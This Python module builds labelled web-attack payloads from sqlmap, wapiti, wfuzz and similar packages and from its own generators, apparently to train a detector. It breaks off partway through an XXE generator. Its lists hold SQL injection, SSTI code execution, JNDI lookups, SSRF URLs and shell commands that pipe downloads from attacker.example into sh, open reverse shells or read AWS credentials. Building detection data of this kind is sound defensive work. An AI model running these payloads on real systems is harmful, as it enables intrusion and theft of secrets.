"""Attack payloads: parsed from registry packages at training time, plus our own generators.

Each payload is `Payload(label, text, source, family, hint)`. `source` names the package (or
`gen` for our generators), `family` the sub-collection (sqlmap technique, brs-kb tag, generator
family); the split is made on (source, family) groups so that test holds unseen sources/families.
`hint` says where the payload naturally lives: any | url | file | header | xml_body | cookie.

Nothing parsed here is written anywhere but the gitignored cache and the generated corpus.
"""

from __future__ import annotations

import ast
import base64
import configparser
import glob
import os
import random
import re
import sys
import urllib.parse
import xml.etree.ElementTree as ET
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    label: str
    text: str
    source: str
    family: str
    hint: str = "any"


def _rs(rng: random.Random, n=4, alphabet="abcdefghijklmnopqrstuvwxyz") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


# ------------------------------------------------------------------------------------- sqlmap

_SQL_QUERIES = ["SELECT USER()", "SELECT @@version", "SELECT current_user", "SELECT DATABASE()",
                "SELECT password FROM users LIMIT 1", "SELECT table_name FROM information_schema.tables",
                "SELECT banner FROM v$version WHERE ROWNUM=1", "SELECT name FROM sqlite_master",
                "SELECT COUNT(*) FROM mysql.user", "SELECT version()", "SELECT SYSTEM_USER"]
_INFERENCES = ["ORD(MID(({q}),{i},1))>{n}", "ASCII(SUBSTRING(({q}),{i},1))>{n}",
               "UNICODE(SUBSTRING(({q}),{i},1))>{n}", "(SELECT LENGTH(({q})))>{i}",
               "SUBSTR(({q}),{i},1)>CHR({n})"]
_COMMENTS = ["-- -", "--", "#", "/*", "-- ", "--+", ";--", "/**/"]


def _sqlmap_fill(rng: random.Random, s: str, orig: str) -> str:
    def rnum(_m=None):
        return str(rng.randint(1000, 9999))
    q = rng.choice(_SQL_QUERIES)
    delim_s, delim_e = _rs(rng, 5, "qxzvjkbp"), _rs(rng, 5, "qxzvjkbp")
    if rng.random() < 0.5:
        delim_s = "0x" + delim_s.encode().hex()
        delim_e = "0x" + delim_e.encode().hex()
    inf = rng.choice(_INFERENCES).format(q=q, i=rng.randint(1, 30), n=rng.randint(32, 126))
    rep = {
        "[INFERENCE]": inf, "[QUERY]": q, "[SLEEPTIME]": str(rng.choice([5, 5, 3, 10])),
        "[DELIMITER_START]": delim_s, "[DELIMITER_STOP]": delim_e,
        "[GENERIC_SQL_COMMENT]": rng.choice(_COMMENTS), "[ORIGVALUE]": orig, "[ORIGINAL]": orig,
        "[CHAR]": rng.choice(["NULL", rnum()]), "[COLSTART]": "1", "[COLSTOP]": str(rng.randint(2, 10)),
        "[AT_REPLACE]": "@", "[DOLLAR_REPLACE]": "$", "[HASH_REPLACE]": "#", "[SPACE_REPLACE]": " ",
        "[DELAYED]": rng.choice(["SLEEP(5)", "pg_sleep(5)", "WAITFOR DELAY '0:0:5'"]),
        "[UNION]": "UNION ALL SELECT " + ",".join(["NULL"] * rng.randint(1, 8)),
    }
    for k, v in rep.items():
        s = s.replace(k, v)
    s = re.sub(r"\[RANDNUM\d?\]", rnum, s)
    s = re.sub(r"\[RANDSTR\d?\]", lambda m: _rs(rng), s)
    return s


def sqlmap_payloads(root: str, rng: random.Random, per_test: int = 4) -> list[Payload]:
    xmld = os.path.join(root, "sqlmap", "data", "xml")
    broot = ET.parse(os.path.join(xmld, "boundaries.xml")).getroot()
    bounds = []
    for b in broot.findall("boundary"):
        clause = set((b.findtext("clause") or "0").split(","))
        where = set((b.findtext("where") or "1").split(","))
        bounds.append((clause, where, b.findtext("prefix") or "", b.findtext("suffix") or ""))
    out = []
    for f in sorted(glob.glob(os.path.join(xmld, "payloads", "*.xml"))):
        family = os.path.basename(f)[:-4]
        for t in ET.parse(f).getroot().findall("test"):
            req = t.find("request")
            texts = []
            p = req.findtext("payload") if req is not None else None
            if p:
                texts.append(p)
            v = t.findtext("vector")
            if v and v != p:
                texts.append(v)
            if family == "union_query":
                texts = ["[UNION]" + rng.choice(["", ",CONCAT([DELIMITER_START],([QUERY]),[DELIMITER_STOP])"])]
            if not texts:
                continue
            comment = (req.findtext("comment") if req is not None else "") or ""
            tclause = set((t.findtext("clause") or "0").split(","))
            twhere = set((t.findtext("where") or "1").split(","))
            ok = [b for b in bounds if ("0" in b[0] or "0" in tclause or b[0] & tclause) and b[1] & twhere]
            for _ in range(per_test):
                b = rng.choice(ok) if ok else (set(), set(), "", "")
                text = rng.choice(texts)
                where = rng.choice(sorted(twhere))
                orig = rng.choice(["1", str(rng.randint(1, 999)), _rs(rng, rng.randint(3, 8))])
                body = f"{b[2]} {text}{' ' + comment if comment else ''}{(' ' + b[3]) if b[3] else ''}".strip()
                if where == "1":
                    s = orig + (" " if not b[2] else "") + body
                elif where == "2":
                    s = f"-{rng.randint(1000, 9999)}" + (" " if not b[2] else "") + body
                else:
                    s = body
                out.append(Payload("sqli", _sqlmap_fill(rng, s, orig), "sqlmap", family))
    return out


# -------------------------------------------------------------------------------------- wapiti


def _ini_payloads(path: str) -> list[tuple[str, str]]:
    cp = configparser.RawConfigParser(strict=False, interpolation=None)
    cp.read(path, encoding="utf-8")
    out = []
    for sec in cp.sections():
        if cp.has_option(sec, "payload"):
            p = cp.get(sec, "payload")
            if p and p != "None":
                out.append((sec, p))
    return out


def _wapiti_fill(rng: random.Random, s: str) -> str:
    rep = {"[TIME]": "5", "[LF]": "\n", "[NULL]": "\x00", "[VALUE]": str(rng.randint(1, 99)),
           "[EXTERNAL_ENDPOINT]": f"http://{_rs(rng, 6)}.oast.example/", "[SESSION_ID]": _rs(rng, 8),
           "[PATH_ID]": str(rng.randint(1, 9)), "[PARAM_AS_HEX]": _rs(rng, 6, "0123456789abcdef"),
           "[FILE_NAME]": "index.php", "[SPACE]": " ", "[TAB]": "\t", "__XSS__": _rs(rng, 6),
           "[ALERT_PARAM]": "1", "[UNIQUE]": _rs(rng, 6)}
    for k, v in rep.items():
        s = s.replace(k, v)
    s = re.sub(r"\[[A-Z_]+\]", "", s)
    return s


def wapiti_payloads(root: str, rng: random.Random) -> list[Payload]:
    d = os.path.join(root, "wapitiCore", "data", "attacks")
    out = []
    spec = [("blindSQLPayloads.ini", "sqli"), ("xssPayloads.ini", "xss"), ("execPayloads.ini", "cmdi"),
            ("xxePayloads.ini", "xxe"), ("ldap.ini", "ldap")]
    for fn, label in spec:
        p = os.path.join(d, fn)
        if not os.path.exists(p):
            continue
        for sec, pl in _ini_payloads(p):
            if label == "ldap" and sec in ("no_results_reference",):
                continue
            hint = "xml_body" if label == "xxe" else "any"
            out.append(Payload(label, _wapiti_fill(rng, pl), "wapiti3", fn[:-4], hint))
    p = os.path.join(d, "fileHandlingPayloads.ini")
    if os.path.exists(p):
        for sec, pl in _ini_payloads(p):
            if "remote" in sec:  # remote inclusion: an external URL, i.e. SSRF-like
                out.append(Payload("ssrf", _wapiti_fill(rng, pl), "wapiti3", "fileHandling-remote", "url"))
            else:
                out.append(Payload("path_traversal", _wapiti_fill(rng, pl), "wapiti3", "fileHandling", "file"))
    return out


# --------------------------------------------------------------------------------------- wfuzz


def _lines(path: str) -> list[str]:
    with open(path, encoding="utf-8", errors="replace") as f:
        return [ln.rstrip("\r\n") for ln in f if ln.strip() and not ln.startswith("#")]


def wfuzz_payloads(root: str) -> list[Payload]:
    w = os.path.join(root, "usr", "share", "wfuzz", "wordlist")
    out = []
    for fn, label, hint in (("Injections/SQL.txt", "sqli", "any"), ("Injections/XSS.txt", "xss", "any"),
                            ("Injections/Traversal.txt", "path_traversal", "file"),
                            ("vulns/sql_inj.txt", "sqli", "any"),
                            ("vulns/dirTraversal-nix.txt", "path_traversal", "file"),
                            ("vulns/dirTraversal-win.txt", "path_traversal", "file"),
                            ("vulns/dirTraversal.txt", "path_traversal", "file")):
        p = os.path.join(w, fn)
        if os.path.exists(p):
            for ln in _lines(p):
                out.append(Payload(label, ln, "wfuzz", fn, hint))
    p = os.path.join(w, "Injections", "XML.txt")
    if os.path.exists(p):
        for ln in _lines(p):
            if "ENTITY" in ln:
                out.append(Payload("xxe", ln, "wfuzz", "Injections/XML.txt", "xml_body"))
            elif "script" in ln.lower() or "javas" in ln.lower():
                out.append(Payload("xss", ln, "wfuzz", "Injections/XML.txt"))
    return out


# ------------------------------------------------------------------------------------- brs-kb


def brs_kb_payloads(root: str) -> list[Payload]:
    sys.path.insert(0, root)
    try:
        import brs_kb.payloads as P  # zero-dependency package, importing prints nothing
        entries = P.get_all_payloads()
    finally:
        sys.path.remove(root)
    out = []
    for pid, e in sorted(entries.items()):
        text = getattr(e, "payload", "")
        if not isinstance(text, str) or not text.strip():
            continue
        tags = list(getattr(e, "tags", []) or [])
        fam = tags[0] if tags else "untagged"
        label = "ssti" if "ssti" in tags else "xss"
        out.append(Payload(label, text, "brs-kb", fam))
    return out


# ---------------------------------------------------------------------------------- payloadforge


def payloadforge_payloads(root: str) -> list[Payload]:
    """String constants from the generator modules, read with `ast` (importing prompts on stdin)."""
    gdir = os.path.join(root, "payloadforge", "generators")
    out = []
    for mod, label in (("sqli", "sqli"), ("xss", "xss"), ("ssti", "ssti"), ("cmdi", "cmdi")):
        p = os.path.join(gdir, f"{mod}.py")
        if not os.path.exists(p):
            continue
        with open(p, encoding="utf-8") as f:
            tree = ast.parse(f.read())
        for node in ast.walk(tree):
            if isinstance(node, ast.Assign) and isinstance(node.value, (ast.List, ast.Tuple)):
                name = node.targets[0].id if isinstance(node.targets[0], ast.Name) else "list"
                for el in node.value.elts:
                    if isinstance(el, ast.Constant) and isinstance(el.value, str) and len(el.value) > 1:
                        out.append(Payload(label, el.value, "payloadforge", f"{mod}:{name}"))
    return out


# ------------------------------------------------------------------------------------ CRLFsuite


def crlfsuite_payloads(root: str) -> list[Payload]:
    p = os.path.join(root, "crlfsuite", "core", "config.py")
    with open(p, encoding="utf-8") as f:
        tree = ast.parse(f.read())
    consts = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
            try:
                consts[node.targets[0].id] = ast.literal_eval(node.value)
            except Exception:
                pass
    out = []
    inj = "Set-Cookie:crlf=injection;"
    for start in consts.get("starting_strings", [""]):
        for esc in consts.get("escape_chars", []):
            out.append(Payload("crlf", urllib.parse.unquote(start + esc) + inj if "%" in esc else start + esc + inj,
                               "CRLFsuite", "escape_chars"))
    for x in consts.get("xss_payloads", []):
        out.append(Payload("crlf", urllib.parse.unquote(x), "CRLFsuite", "xss_payloads"))
    return out


# ----------------------------------------------------------------------------- modsecurity-crs


def crs_lists(root: str) -> dict[str, list[str]]:
    d = os.path.join(root, "usr", "share", "modsecurity-crs", "rules")
    out = {}
    for name in ("unix-shell", "lfi-os-files", "java-classes", "windows-powershell-commands", "restricted-files"):
        p = os.path.join(d, f"{name}.data")
        out[name] = _lines(p) if os.path.exists(p) else []
    return out


# ----------------------------------------------------------------------------- our generators


def _enc_variants(rng: random.Random, s: str) -> str:
    r = rng.random()
    if r < 0.6:
        return s
    if r < 0.75:
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)
    if r < 0.85:
        return s.replace(" ", rng.choice(["/**/", "\t", "\n", "+", "%0a", "/*x*/"]))
    return s


def gen_sqli(rng: random.Random, n: int) -> list[Payload]:
    pre = ["'", '"', "')", "'))", "", "1'", "1", "admin'", "x')", "1)", "-1", "' ", "%' "]
    cores = {
        "tautology": ["OR 1=1", "OR '1'='1", "OR 'a'='a", "OR 2>1", "OR true", "|| 1=1", "OR 1 LIKE 1",
                      "OR 3=3 AND 'x'='x", "AND 1=0", "OR ''='", "OR 1=1 LIMIT 1"],
        "union": ["UNION SELECT NULL,NULL", "UNION ALL SELECT username,password FROM users",
                  "UNION SELECT 1,@@version,3", "UNION SELECT table_name,NULL FROM information_schema.tables",
                  "UNION SELECT load_file('/etc/passwd')", "/*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
                  "UNION SELECT NULL,concat(user(),0x3a,database())", "UNiOn SeLeCt 1,group_concat(column_name),3 from information_schema.columns"],
        "stacked": ["; DROP TABLE users", "; SELECT pg_sleep(5)", "; EXEC xp_cmdshell('whoami')",
                    "; INSERT INTO users(name,role) VALUES('x','admin')", "; UPDATE users SET role='admin'",
                    "; SHUTDOWN", "; DECLARE @q VARCHAR(99);SET @q='x';EXEC(@q)"],
        "time": ["AND SLEEP(5)", "OR SLEEP(5)", "AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "WAITFOR DELAY '0:0:5'",
                 "AND 1=(SELECT 1 FROM PG_SLEEP(5))", "OR BENCHMARK(5000000,MD5(1))", "AND randomblob(500000000)",
                 "AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1", "RLIKE SLEEP(5)"],
        "error": ["AND extractvalue(1,concat(0x7e,version()))", "AND updatexml(1,concat(0x7e,user()),1)",
                  "AND 1=CONVERT(int,@@version)", "AND 1=CAST((SELECT version()) AS int)",
                  "AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
                  "AND ctxsys.drithsx.sn(1,(select user from dual))=1"],
        "order": ["ORDER BY 1", "ORDER BY 10", "GROUP BY 1 HAVING 1=1", "ORDER BY (SELECT 1)",
                  "PROCEDURE ANALYSE()", "LIMIT 1 OFFSET 1"],
        "auth": ["admin' --", "admin'#", "' or ''='", "' or 1=1 --", "\" or \"\"=\"", "') or ('1'='1",
                 "admin' or '1'='1'/*", "1' or '1'='1' -- -", "' OR 'x'='x'#"],
    }
    suf = ["", " --", " -- -", "#", "/*", " AND '1'='1", "%00", ";", " --+"]
    out = []
    fams = sorted(cores)
    for i in range(n):
        fam = fams[i % len(fams)]
        core = rng.choice(cores[fam])
        if fam == "auth":
            s = core
        else:
            s = f"{rng.choice(pre)} {core}{rng.choice(suf)}".strip()
        out.append(Payload("sqli", _enc_variants(rng, s), "gen", f"sqli-{fam}"))
    return out


TRAV_TARGETS_BASE = ["etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/self/cmdline",
                     "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "etc/group",
                     "root/.ssh/id_rsa", "home/ubuntu/.bash_history", "var/log/apache2/access.log",
                     "WEB-INF/web.xml", "app/config/parameters.yml", ".env", ".git/config", "etc/nginx/nginx.conf",
                     "var/run/secrets/kubernetes.io/serviceaccount/token", "inetpub/wwwroot/web.config"]


def gen_traversal(rng: random.Random, n: int, crs_files: list[str]) -> list[Payload]:
    targets = list(TRAV_TARGETS_BASE)
    targets += [t.lstrip("/") for t in crs_files if "/" in t and len(t) > 4][:200]
    seps = {
        "plain": ("../", "/"), "backslash": ("..\\", "\\"), "urlenc": ("%2e%2e%2f", "%2f"),
        "mixedenc": ("..%2f", "/"), "dblenc": ("%252e%252e%252f", "%252f"), "overlong": ("..%c0%af", "/"),
        "dotdotslash2": ("....//", "/"), "semicolon": ("..;/", "/"), "unicode": ("..%u2216", "/"),
        "fullwidth": ("..%ef%bc%8f", "/"), "winenc": ("..%5c", "%5c"), "dotenc": ("%2e%2e/", "/"),
    }
    out = []
    fams = sorted(seps)
    for i in range(n):
        fam = fams[i % len(fams)]
        up, sep = seps[fam]
        depth = rng.randint(1, 10)
        tgt = rng.choice(targets)
        s = up * depth + tgt.replace("/", sep)
        r = rng.random()
        if r < 0.15:
            s = rng.choice(["images/", "static/", "files/", "uploads/", "reports/2024/"]) + s
        elif r < 0.25:
            s = "/" + s
        if rng.random() < 0.1:
            s += rng.choice(["%00", "%00.png", "\x00.jpg", "?", "#.pdf"])
        out.append(Payload("path_traversal", s, "gen", f"trav-{fam}", "file"))
    # absolute paths and wrappers (LFI)
    wrappers = ["file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
                "php://filter/read=string.rot13/resource=config.php", "php://input", "zip://uploads/a.zip%23shell.php",
                "phar://uploads/avatar.jpg/x", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
                "expect://id", "/etc/passwd", "C:\\Windows\\win.ini", "/proc/self/environ", "\\\\attacker\\share\\x",
                "file://localhost/etc/shadow", "/var/www/../../etc/passwd", "c:/boot.ini", "/etc/passwd%00"]
    for w in wrappers:
        for _ in range(3):
            out.append(Payload("path_traversal", w, "gen", "trav-wrapper", "file"))
    return out


CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "pwd", "ifconfig", "netstat -an", "ps aux",
        "curl http://{h}/x.sh | sh", "wget http://{h}/s -O /tmp/s", "nc -e /bin/sh {h} 4444",
        "bash -i >& /dev/tcp/{h}/4444 0>&1", "ping -c 5 127.0.0.1", "sleep 5", "python -c 'import os;os.system(\"id\")'",
        "perl -e 'exec \"/bin/sh\"'", "rm -rf /tmp/x", "echo $(id)", "cat /etc/shadow", "nslookup {h}",
        "type C:\\Windows\\win.ini", "dir C:\\", "net user", "powershell -enc SQBFAFgA", "cmd /c whoami",
        "busybox nc {h} 9001 -e sh", "chmod +x /tmp/x; /tmp/x", "env", "cat ~/.aws/credentials",
        "php -r 'system(\"id\");'", "ruby -e 'system(\"id\")'", "/bin/sh -c id", "timeout 5 yes"]


def gen_cmdi(rng: random.Random, n: int, crs_shell: list[str]) -> list[Payload]:
    extra = [c for c in crs_shell if re.fullmatch(r"[a-z0-9_.+-]{2,20}", c)]
    seps = {"semicolon": "; {c}", "pipe": "| {c}", "oror": "|| {c}", "and": "& {c}", "andand": "&& {c}",
            "newline": "\n{c}", "backtick": "`{c}`", "subshell": "$({c})", "semicolon-nospace": ";{c};",
            "crlf": "\r\n{c}", "pipe-nospace": "|{c}", "encnl": "%0a{c}"}
    out = []
    fams = sorted(seps)
    for i in range(n):
        fam = fams[i % len(fams)]
        c = rng.choice(CMDS) if rng.random() < 0.75 or not extra else rng.choice(extra) + rng.choice(["", " -a", " /etc/passwd", " -la"])
        c = c.replace("{h}", rng.choice(["10.0.0.5", "attacker.example", "203.0.113.7", f"{_rs(rng, 6)}.oast.fun"]))
        r = rng.random()
        if r < 0.15:
            c = c.replace(" ", "${IFS}")
        elif r < 0.22:
            c = re.sub(r"^(\w)(\w)", lambda m: f"{m.group(1)}'{m.group(2)}'", c)
        elif r < 0.27:
            c = re.sub(r"^(\w)", lambda m: m.group(1) + "\\", c)
        elif r < 0.3:
            c = c.replace("/etc/passwd", "/e??/p?ss??")
        prefix = rng.choice(["", "127.0.0.1", "example.com", "file.txt", "1", "test", "8.8.8.8 ", "x"])
        s = prefix + seps[fam].format(c=c)
        out.append(Payload("cmdi", s, "gen", f"cmdi-{fam}"))
    return out


def gen_nosqli(rng: random.Random, n: int) -> list[Payload]:
    ops = ["$ne", "$gt", "$gte", "$lt", "$regex", "$nin", "$in", "$exists", "$where", "$eq", "$not", "$expr", "$elemMatch"]
    vals = ["null", '""', "1", "true", '".*"', '"^a"', "[]", '["admin"]', '"x"', "0", '{"$gt": ""}']
    js = ["return true", "sleep(5000)", "this.password.length > 0", "1==1", "this.role == 'admin'", "db.version()",
          "Object.keys(this)[0].match(/^a/)", "while(true){}"]
    out = []
    fams = ["op-json", "op-inline", "where-js", "aggregate"]
    for i in range(n):
        fam = fams[i % len(fams)]
        op = rng.choice(ops)
        if fam == "op-json":
            v = '"%s"' % rng.choice(js) if op == "$where" else rng.choice(vals)
            s = '{"%s": %s}' % (op, v)
            if rng.random() < 0.3:
                s = '{"%s": %s, "%s": %s}' % (rng.choice(["username", "email", "user", "login"]), s, rng.choice(["password", "pass", "token"]), '{"%s": %s}' % (rng.choice(ops[:4]), rng.choice(vals)))
        elif fam == "op-inline":
            v = rng.choice(["1", "", "x", "^adm", "true", "null", "a.*", str(rng.randint(0, 99))])
            s = "[%s]=%s" % (op, v) if rng.random() < 0.8 else "[%s][]=%s" % (op, v)
        elif fam == "where-js":
            q = rng.choice(["'", '"', ""])
            s = rng.choice(["%s; %s; var x=%s", "%s || %s || %s", "%s && %s && %s", "%s}); %s; //%s", "%s, $where: '%s', x: %s"]) % (q, rng.choice(js), q)
        else:
            s = rng.choice(['[{"$lookup": {"from": "%s", "localField": "a", "foreignField": "b", "as": "u"}}]' % rng.choice(["users", "accounts", "secrets"]),
                            '{"$expr": {"$eq": [%d, %d]}}' % (rng.randint(1, 9), rng.randint(1, 9)),
                            '{"$function": {"body": "function(){%s}", "args": [], "lang": "js"}}' % rng.choice(js),
                            "db.%s.%s()" % (rng.choice(["users", "getCollection('x')", "accounts"]), rng.choice(["find", "drop", "remove", "deleteMany"])),
                            '{"$or": [{"%s": {"$ne": null}}, {"a": "a"}]}' % rng.choice(["user", "role", "email"])])
        out.append(Payload("nosqli", s, "gen", f"nosqli-{fam}"))
    return out


def _ip_forms(rng: random.Random, ip: str) -> list[tuple[str, str]]:
    a = [int(x) for x in ip.split(".")]
    num = (a[0] << 24) | (a[1] << 16) | (a[2] << 8) | a[3]
    return [("plain", ip), ("decimal", str(num)), ("hex", hex(num)),
            ("octal", ".".join("0%o" % x for x in a)), ("hexdots", ".".join(hex(x) for x in a)),
            ("ipv6map", f"[::ffff:{ip}]"), ("short", f"{a[0]}.{num & 0xffffff}" if a[0] == 127 else ip)]


def gen_ssrf(rng: random.Random, n: int) -> list[Payload]:
    ips = ["169.254.169.254", "127.0.0.1", "10.0.0.1", "192.168.1.1", "172.17.0.1", "0.0.0.0", "100.100.100.200"]
    paths = ["/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/instance/service-accounts/default/token",
             "/metadata/instance?api-version=2021-02-01", "/admin", "/", "/server-status", "/actuator/env", ":6379/", ":2375/containers/json",
             ":8500/v1/agent/self", ":9200/_cat/indices", "/latest/api/token", ":10250/pods", ":22"]
    names = ["localhost", "metadata.google.internal", "metadata", "kubernetes.default.svc", "127.0.0.1.nip.io",
             "localtest.me", "internal-api.local", "consul.service.consul", "[::1]", "[0:0:0:0:0:ffff:127.0.0.1]", "0", "127.1",
             "2130706433", "017700000001", "instance-data"]
    out = []
    for i in range(n):
        r = rng.random()
        if r < 0.45:
            fam, host = rng.choice(_ip_forms(rng, rng.choice(ips)))
            fam = "ip-" + fam
        elif r < 0.7:
            fam, host = "name", rng.choice(names)
        else:
            fam = "scheme"
            s = rng.choice([
                "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "file:///etc/passwd", "dict://127.0.0.1:11211/stats",
                "gopher://localhost:25/_HELO%20x", "ftp://127.0.0.1/", "ldap://127.0.0.1:389/", "jar:http://127.0.0.1!/",
                "file:///proc/self/environ", "tftp://10.0.0.1/x", "netdoc:///etc/passwd", "sftp://evil.example:11111/",
                "http://attacker.example@169.254.169.254/", "http://169.254.169.254#@example.com/", "http://example.com@127.0.0.1:8080/"])
            out.append(Payload("ssrf", s, "gen", "ssrf-scheme", "url"))
            continue
        scheme = rng.choice(["http://", "http://", "https://", "//"])
        out.append(Payload("ssrf", scheme + host + rng.choice(paths), "gen", f"ssrf-{fam}", "url"))
    return out


def gen_jndi(rng: random.Random, n: int) -> list[Payload]:
    def obf(word: str) -> str:
        outw = []
        for ch in word:
            r = rng.random()
            if r < 0.25:
                outw.append("${::-%s}" % ch)
            elif r < 0.4:
                outw.append("${lower:%s}" % ch.upper())
            elif r < 0.5:
                outw.append("${env:NaN:-%s}" % ch)
            elif r < 0.55:
                outw.append("${upper:%s}" % ch)
            else:
                outw.append(ch)
        return "".join(outw)
    out = []
    for i in range(n):
        proto = rng.choice(["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http"])
        host = rng.choice([f"{_rs(rng, 8)}.oast.example", "10.0.0.5:1389", "attacker.example/a", "${hostName}.x.example",
                           "127.0.0.1:1099/Exploit", "${env:USER}.dnslog.example"])
        r = rng.random()
        if r < 0.35:
            s, fam = "${jndi:%s://%s}" % (proto, host), "plain"
        elif r < 0.8:
            s, fam = "${%s:%s://%s}" % (obf("jndi"), obf(proto), host), "obfuscated"
        elif r < 0.9:
            s, fam = rng.choice(["${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//%s}",
                                 "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s}"]) % host, "nested"
        else:
            s, fam = rng.choice(["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${ctx:loginId}",
                                 "${java:os}", "${env:DB_PASSWORD}", "${main:0}", "${spring:spring.datasource.password}"]), "lookup"
        if rng.random() < 0.2:
            s = rng.choice(["Mozilla/5.0 ", "x", "user-", ""]) + s
        out.append(Payload("jndi", s, "gen", f"jndi-{fam}", "header" if rng.random() < 0.5 else "any"))
    return out


def gen_ssti(rng: random.Random, n: int) -> list[Payload]:
    forms = {
        "jinja": ["{{%d*%d}}", "{{config.items()}}", "{{ self.__init__.__globals__.__builtins__ }}",
                  "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
                  "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{%% for c in [].__class__.__base__.__subclasses__() %%}{{c}}{%% endfor %%}",
                  "{{ lipsum.__globals__['os'].popen('whoami').read() }}", "{{ namespace.__init__.__globals__.os.popen('id').read() }}"],
        "el": ["${%d*%d}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{%d*%d}", "*{T(java.lang.System).getenv()}",
               "${applicationScope}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "${{%d*%d}}",
               "#{session.setAttribute('x', 1)}", "${''.getClass().forName('java.lang.Runtime')}"],
        "freemarker": ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "${%d*%d}",
                       '${"freemarker.template.utility.Execute"?new()("whoami")}', "<#list .data_model?keys as k>${k}</#list>"],
        "erb": ["<%%= %d*%d %%>", "<%%= system('id') %%>", "<%%= `ls /` %%>", "<%%= File.open('/etc/passwd').read %%>"],
        "velocity": ["#set($x=%d*%d)${x}", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")", "$class.inspect(\"java.lang.Runtime\")"],
        "smarty": ["{php}echo `id`;{/php}", "{system('id')}", "{$smarty.version}", "{if phpinfo()}{/if}", "{%d*%d}"],
        "handlebars": ["{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{/with}}{{/with}}", "{{this.constructor.constructor('return process')()}}",
                       "{{#each this}}{{@key}}{{/each}}", "<%%- global.process.mainModule.require('child_process').execSync('id') %%>"],
    }
    out = []
    fams = sorted(forms)
    for i in range(n):
        fam = fams[i % len(fams)]
        t = rng.choice(forms[fam])
        a, b = rng.randint(2, 999), rng.randint(2, 999)
        try:
            s = t % (a, b) if t.count("%d") == 2 else (t % () if "%%" in t else t)
        except TypeError:
            s = t
        out.append(Payload("ssti", s, "gen", f"ssti-{fam}"))
    return out


def gen_crlf(rng: random.Random, n: int) -> list[Payload]:
    hdrs = ["Set-Cookie: session=attacker", "Location: https://evil.example/", "X-Injected: 1",
            "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
            "Access-Control-Allow-Origin: *", "Refresh: 0; url=https://evil.example/", "Content-Type: text/html"]
    seps = {"crlf": "\r\n", "lf": "\n", "cr": "\r", "enc-crlf": "%0d%0a", "enc-lf": "%0a", "dblenc": "%250d%250a",
            "utf8": "\u560a\u560d", "tab": "\r\n\t"}
    # Response splitting: after the injected headers, an empty line and a body of the attacker's
    # choosing (the usual way a CRLF injection becomes an XSS).
    bodies = ["<script>alert(1)</script>", "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>",
              "<html><body>injected</body></html>", "HTTP/1.1 200 OK"]
    out = []
    fams = sorted(seps)
    for i in range(n):
        fam = fams[i % len(fams)]
        sep = seps[fam]
        pre = rng.choice(["", "/", "en", "https://example.com/", "x", "%20"])
        s = pre + sep + rng.choice(hdrs)
        if rng.random() < 0.4:
            s += sep + sep + rng.choice(bodies)
        out.append(Payload("crlf", s, "gen", f"crlf-{fam}"))
    return out


def gen_ldap(rng: random.Random, n: int) -> list[Payload]:
    attrs = ["uid", "cn", "mail", "objectClass", "userPassword", "sn", "memberOf", "description", "sAMAccountName", "givenName"]
    out = []
    fams = ["wildcard", "or", "and", "attr"]
    for i in range(n):
        fam = fams[i % len(fams)]
        a, b = rng.choice(attrs), rng.choice(attrs)
        v = rng.choice(["*", "admin*", "*a*", "x", "*)"])
        if fam == "wildcard":
            s = rng.choice(["*)(%s=*" % a, "*)(|(%s=*" % a, "*))%%00", "%s)(%s=*" % (v, a), "*))(|(%s=%s" % (a, v), "*()|&'"])
        elif fam == "or":
            s = rng.choice(["%s)(|(%s=*))" % (v, a), "*)(|(%s=*)(%s=*))" % (a, b), "x)(|(%s=%s)" % (a, v), "%s)(|(%s=*)" % (v, b)])
        elif fam == "and":
            s = rng.choice(["%s)(&(%s=*))" % (v, a), "*)(%s=*))(|(%s=*" % (a, b), "%s))(|(|" % v, ")(%s=*))\x00" % a, "%s)(&)" % v])
        else:
            s = rng.choice(["*)(%s=*" % a, "*)(%s=*@*" % a, "x)(%s=%s)" % (a, v), "*)(%s=cn=admins,dc=example,dc=com" % a])
        if rng.random() < 0.4:
            s = rng.choice(["admin", "jdoe", "user", "j.smith"]) + s
        out.append(Payload("ldap", s, "gen", f"ldap-{fam}"))
    return out


def gen_xxe(rng: random.Random, n: int) -> list[Payload]:
    targets = ["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/meta-data/",
               "http://attacker.example/evil.dtd", "php://filter/convert.base64-encode/resource=/etc/hosts",
               "file:///proc/self/environ", "expect://id", "jar:file:///tmp/x.zip!/a", "file:///dev/random"]
    roots = ["foo", "user", "order", "request", "data", "root", "note", "svg"]
    out = []
    for i in range(n):
